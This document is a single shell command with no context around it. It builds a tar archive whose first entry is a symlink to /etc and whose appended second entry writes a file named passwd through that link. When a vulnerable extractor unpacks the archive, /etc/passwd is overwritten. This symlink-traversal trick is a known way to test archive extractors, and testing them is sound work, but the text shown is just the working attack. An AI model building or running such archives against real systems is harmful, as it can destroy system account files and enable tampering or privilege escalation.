ln -s /etc l; tar cf t.tar l; rm l; mkdir l; echo x > l/passwd; tar rf t.tar l/passwd; rm -r l
